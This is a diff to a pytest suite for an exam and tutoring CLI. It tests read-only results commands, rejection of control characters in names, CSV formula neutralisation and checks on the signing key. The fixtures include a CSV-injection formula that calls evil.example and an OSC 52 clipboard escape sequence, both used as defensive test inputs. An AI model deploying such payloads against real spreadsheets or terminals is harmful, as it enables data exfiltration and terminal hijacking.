@@ -22,6 +22,7 @@ from tutor.cli import main
 from tutor.content.answers import recorded_answer, right_rows
 from tutor.content.loader import load_course
 from tutor.content.model import Course, Question
+from tutor.errors import InputError
 from tutor.exam.record import KEY_ENV, SigningKey, canonical, verify
 from tutor.exam.session import ExamError, ExamSession
 from tutor.exam.spec import spec_for
@@ -210,6 +211,7 @@ def test_kill_9_mid_exam_loses_nothing(course: Course, tmp_path: Path) -> None:
     session = ExamSession.begin(store, course, spec_for(course, seed=11, types=["single"]),
                                 "Ada", None)
     assert session.resumed and session.attempt.id == attempt_id
+    assert session.notice is not None and "is no longer running" in session.notice
     assert sorted(session.answers) == [0, 1] and session.flags == {2}
     record = session.submit()
     assert record["score"]["correct"] == 2
@@ -233,7 +235,8 @@ def test_a_finished_attempt_takes_no_more_answers(course: Course, store: Any) ->
     session = ExamSession.begin(store, course, spec_for(course, questions=2), "Ada", KEY)
     session.submit()
     with pytest.raises(StoreError, match="not open for answers"):
-        store.exams.save_answer(session.attempt.id, 0, [0], "2026-11-22T09:00:00Z")
+        store.exams.save_answer(session.attempt.id, session.holder, 0, [0],
+                                "2026-11-22T09:00:00Z")
 
 
 # Records and signatures ----------------------------------------------------------------------
@@ -425,13 +428,238 @@ def test_results_commands_never_import_textual(with_records: Path, tmp_path: Pat
     assert done.returncode == 0, done.stderr
 
 
-def test_a_corrupt_store_is_moved_aside_with_a_message(
+def test_results_report_a_corrupt_store_and_leave_it(
         tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
-    """results list on a damaged progress file says where it was moved; nothing is deleted."""
+    """results list on a damaged progress file says so (exit 2); the file is not moved."""
     data = tmp_path / "data"
     data.mkdir()
     (data / "progress.db").write_bytes(b"not a database at all " * 50)
     code, out, err = run(capsys, "results", "list", "--data-dir", str(data))
-    assert code == 0 and "No exam attempts yet." in out
-    assert "could not be read" in err and "moved to" in err
-    assert [p.name for p in data.iterdir() if p.name.startswith("progress.db.broken-")]
+    assert code == 2 and "cannot be read" in err and "left as it is" in err
+    assert [p.name for p in data.iterdir()] == ["progress.db"]
+
+
+def test_results_on_a_missing_store_create_nothing(
+        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """No store yet: no attempts, and no folder or file is created by reading."""
+    data = tmp_path / "never-used"
+    code, out, _ = run(capsys, "results", "list", "--data-dir", str(data))
+    assert code == 0 and out == "No exam attempts yet.\n"
+    code, out, _ = run(capsys, "results", "export", "--format", "csv", "--data-dir", str(data))
+    assert code == 0 and out.count("\n") == 1  # the header only
+    assert not data.exists()
+
+
+def _snapshot(folder: Path) -> dict[str, tuple[bytes, int]]:
+    return {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in sorted(folder.iterdir())}
+
+
+def test_results_change_nothing_in_the_data_folder(
+        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """list and export read the store without writing it (no learner row, no journal)."""
+    before = _snapshot(with_records)
+    code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_records))
+    assert code == 0 and "Ada Lovelace" in out
+    code, out, _ = run(capsys, "results", "export", "--data-dir", str(with_records))
+    assert code == 0 and "Grace Hopper" in out
+    assert _snapshot(with_records) == before
+
+
+@pytest.mark.skipif(hasattr(os, "geteuid") and os.geteuid() == 0,
+                    reason="root may write a read-only folder")
+def test_results_read_a_read_only_folder(
+        with_records: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A data folder and store the reader may not write are listed and exported."""
+    (with_records / "progress.db").chmod(0o444)
+    with_records.chmod(0o555)
+    try:
+        code, out, err = run(capsys, "results", "list", "--data-dir", str(with_records))
+        assert code == 0 and "Ada Lovelace" in out, err
+        code, out, err = run(capsys, "results", "export", "--format", "csv",
+                             "--data-dir", str(with_records))
+        assert code == 0 and "Grace Hopper" in out, err
+    finally:
+        with_records.chmod(0o755)
+
+
+# Names -------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("args", [
+    pytest.param(["exam", "--name", "Ada\x1b]52;c;aGk=\x07"], id="exam --name"),
+    pytest.param(["--learner", "Ada\x9b2J", "--data-dir", "{data}"], id="app --learner"),
+])
+def test_names_with_control_characters_are_refused_before_the_screen(
+        args: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """exam --name and --learner refuse control characters, naming the first (exit 2)."""
+    code, out, err = run(capsys, *(a.format(data=tmp_path) for a in args))
+    assert code == 2 and "cannot hold control characters" in err
+    assert "U+001B (ESC) at character 4" in err or "U+009B (CSI) at character 4" in err
+    assert "\x1b" not in err and "\x9b" not in err and "needs a terminal" not in err
+
+
+def test_a_name_is_refused_by_the_session_itself(course: Course, store: Any) -> None:
+    """The headless session refuses it too (a server has no command line to check it)."""
+    with pytest.raises(ExamError, match="U\\+0007 \\(BEL\\)"):
+        ExamSession.begin(store, course, spec_for(course, questions=2), "A\x07da", KEY)
+    assert list(store.exams.all_attempts()) == []
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)\x1b]52;c;aGk=\x07'
+
+
+@pytest.fixture
+def with_hostile_name(course: Course, tmp_path: Path) -> Path:
+    """A store whose finished record names its learner as a formula with an escape in it,
+    as an older version or another tool could have written it."""
+    data = tmp_path / "data"
+    store = ProgressStore.open(data, "tester")
+    record = finished_record(course, store, name="Ada")
+    store._db.execute("UPDATE exam_attempts SET learner = ?, record = ?",
+                      (HOSTILE, json.dumps({**record, "learner": HOSTILE})))
+    store._db.commit()
+    store.close()
+    return data
+
+
+def test_results_list_shows_control_characters_as_glyphs(
+        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A stored name holding ESC and BEL is listed with both visible, none sent raw."""
+    code, out, _ = run(capsys, "results", "list", "--data-dir", str(with_hostile_name))
+    assert code == 0 and "\x1b" not in out and "\x07" not in out
+    assert '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇' in out
+
+
+def test_csv_export_neutralises_formulas_and_controls(
+        with_hostile_name: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A name a spreadsheet would run as a formula is written as text (OWASP CSV Injection)."""
+    code, out, _ = run(capsys, "results", "export", "--format", "csv",
+                       "--data-dir", str(with_hostile_name))
+    [row] = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and "\x1b" not in out
+    assert row["learner"] == "'" + '=HYPERLINK("http://evil.example/?"&A1)␛]52;c;aGk=␇'
+    assert row["correct"] == "10" and row["result"] == "failed"  # the rest is unchanged
+
+
+@pytest.mark.parametrize(("value", "cell"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\tx", "'\tx"), ("\rx", "␍x"), ("Ada Lovelace", "Ada Lovelace"), ("a=b", "a=b"),
+    (-1, -1), (66.7, 66.7),
+])
+def test_csv_cells(value: Any, cell: Any) -> None:
+    """Text starting with = + - @ or a tab gets a quote; numbers and other text do not."""
+    from tutor.exam.export import csv_cell
+
+    assert csv_cell(value) == cell
+
+
+# Verifying: what the file holds, and the key ---------------------------------------------------
+
+@pytest.fixture
+def export(with_records: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
+    """A JSON export of the two signed records."""
+    target = tmp_path / "records.json"
+    code, _, _ = run(capsys, "results", "export", "-o", str(target),
+                     "--data-dir", str(with_records))
+    assert code == 0
+    return target
+
+
+def test_verify_refuses_the_same_record_twice(export: Path,
+                                              capsys: pytest.CaptureFixture[str]) -> None:
+    """A copied record is an error naming its attempt: one attempt counts once (exit 1)."""
+    document = json.loads(export.read_text())
+    copy = document["records"][0]
+    document["records"].append(copy)
+    export.write_text(json.dumps(document))
+    code, out, _ = run(capsys, "results", "verify", str(export))
+    assert code == 1
+    assert (f"✖ record 3 (attempt {copy['attempt_id']}, learner 'Ada Lovelace'): attempt "
+            f"{copy['attempt_id']} appears again (first as record 1)") in out
+    assert "3 record(s): 2 intact and signed with key" in out and ", 1 not." in out
+
+
+def test_verify_of_no_records_fails(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
+                                    capsys: pytest.CaptureFixture[str]) -> None:
+    """An export with no records proves nothing: exit 1 saying there is nothing to verify."""
+    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
+    for text in ('{"records": []}', "[]"):
+        (tmp_path / "empty.json").write_text(text)
+        code, out, _ = run(capsys, "results", "verify", str(tmp_path / "empty.json"))
+        assert code == 1 and "holds no records: there is nothing to verify" in out
+
+
+@pytest.mark.parametrize("kind", ["device", "fifo", "directory"])
+def test_verify_reads_only_a_regular_file(kind: str, tmp_path: Path,
+                                          monkeypatch: pytest.MonkeyPatch,
+                                          capsys: pytest.CaptureFixture[str]) -> None:
+    """/dev/zero, a named pipe or a folder is refused at once (exit 2), never read."""
+    monkeypatch.setenv(KEY_ENV, KEY.secret.decode())
+    target = {"device": Path("/dev/zero"), "fifo": tmp_path / "pipe",
+              "directory": tmp_path}[kind]
+    if kind == "fifo":
+        os.mkfifo(target)
+    code, _, err = run(capsys, "results", "verify", str(target))
+    assert code == 2 and "not a regular file" in err
+
+
+def test_verify_stops_reading_at_the_limit(export: Path, monkeypatch: pytest.MonkeyPatch,
+                                           capsys: pytest.CaptureFixture[str]) -> None:
+    """A record file over the limit is refused as too large (exit 2)."""
+    monkeypatch.setattr("tutor.exam.commands.RECORDS_LIMIT", 1024)
+    code, _, err = run(capsys, "results", "verify", str(export))
+    assert code == 2 and "too large to be a record file (the limit is 1 KB)" in err
+
+
+def test_verify_shows_hostile_text_from_the_file_harmlessly(
+        export: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """An attempt id holding an escape sequence is reported with the control visible."""
+    document = json.loads(export.read_text())
+    document["records"][0]["attempt_id"] = "x\x1b]52;c;aGk=\x07"
+    export.write_text(json.dumps(document))
+    code, out, _ = run(capsys, "results", "verify", str(export))
+    assert code == 1 and "\x1b" not in out and "attempt x␛]52;c;aGk=␇" in out
+
+
+@pytest.fixture
+def key_path(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Where the signing key file is looked for (tests unset the environment variable)."""
+    path = tmp_path / "cfg" / "signing.key"
+    monkeypatch.setattr("tutor.exam.record.key_file", lambda: path)
+    return path
+
+
+@pytest.mark.parametrize("mode", [0o644, 0o640, 0o604, 0o620], ids=lambda m: f"{m:04o}")
+def test_a_key_file_others_can_reach_is_refused(key_path: Path, mode: int, export: Path,
+                                                monkeypatch: pytest.MonkeyPatch,
+                                                capsys: pytest.CaptureFixture[str]) -> None:
+    """As ssh does for private keys: a group- or world-accessible key names the chmod fix."""
+    monkeypatch.delenv(KEY_ENV)
+    key_path.parent.mkdir()
+    key_path.write_text(KEY.secret.decode() + "\n")
+    key_path.chmod(mode)
+    code, _, err = run(capsys, "results", "verify", str(export))
+    assert code == 2 and f"permissions {mode:04o} are too open" in err
+    assert f"Run 'chmod 600 {key_path}'" in err
+    key_path.chmod(0o600)
+    code, out, _ = run(capsys, "results", "verify", str(export))
+    assert code == 0 and "2 intact" in out
+
+
+@pytest.mark.parametrize("kind", ["fifo", "directory", "too large"])
+def test_a_key_file_that_is_not_a_small_regular_file_is_refused(
+        key_path: Path, kind: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A key 'file' that is a pipe, a folder or far too long is an error, not read."""
+    from tutor.exam.record import load_key
+
+    monkeypatch.delenv(KEY_ENV, raising=False)
+    key_path.parent.mkdir()
+    if kind == "fifo":
+        os.mkfifo(key_path, 0o600)
+    elif kind == "directory":
+        key_path.mkdir(0o700)
+    else:
+        key_path.write_text("k" * 10_000)
+        key_path.chmod(0o600)
+    with pytest.raises(InputError, match="cannot use the signing key") as refused:
+        load_key()
+    assert ("not a regular file" in str(refused.value)) != (kind == "too large")
